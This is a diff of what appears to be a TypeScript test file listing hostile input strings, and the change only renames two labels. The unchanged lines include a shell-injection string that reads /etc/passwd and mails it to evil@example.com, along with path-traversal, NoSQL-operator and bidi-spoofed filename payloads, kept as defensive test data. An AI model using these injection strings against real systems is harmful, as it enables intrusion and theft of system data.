@@ -34,14 +34,14 @@ const hostileTexts: [string, string][] = [
   ['a command', '; cat /etc/passwd | mail evil@example.com `id` $(id)'],
   ['a path', '../../../../etc/passwd'],
   ['an object of a query language', '{"$gt":""}'],
-  ['text that turns direction', 'invoice\u202Efdp.exe\u202C'],
+  ['text with a direction override', 'invoice\u202Efdp.exe\u202C'],
   ['text that is not seen', 'ad\u200Bmin\u200D\uFEFF\u2060'],
   ['half of a character', '\ud83d'],
   ['a character of many marks', `a${'\u0301'.repeat(200)}`],
   ['characters beyond the first plane', '𝕏𐍈🏴‍☠️'],
   ['a NUL', 'a\0b'],
   ['control characters', '\u0001\u0007\u001b[2J\u007f\u0085'],
-  ['line ends of Unicode', 'a\u2028b\u2029c'],
+  ['Unicode line breaks', 'a\u2028b\u2029c'],
   ['the word null', 'null'],
   ['a number too large for one', '9'.repeat(400)],
   ['a text that is hard to match', `${'a'.repeat(5_000)}!`],
@@ -51,9 +51,9 @@ const hostileTexts: [string, string][] = [
 /** The hostile texts with line breaks, control characters or marks that change the direction of text. */
 const notOneLine = [
   'a header line',
-  'text that turns direction',
+  'text with a direction override',
   'control characters',
-  'line ends of Unicode',
+  'Unicode line breaks',
 ]
 const tokenNames = hostileTexts.filter(
   ([, text]) => text.length <= 100 && !text.includes('\0') && text.isWellFormed(),
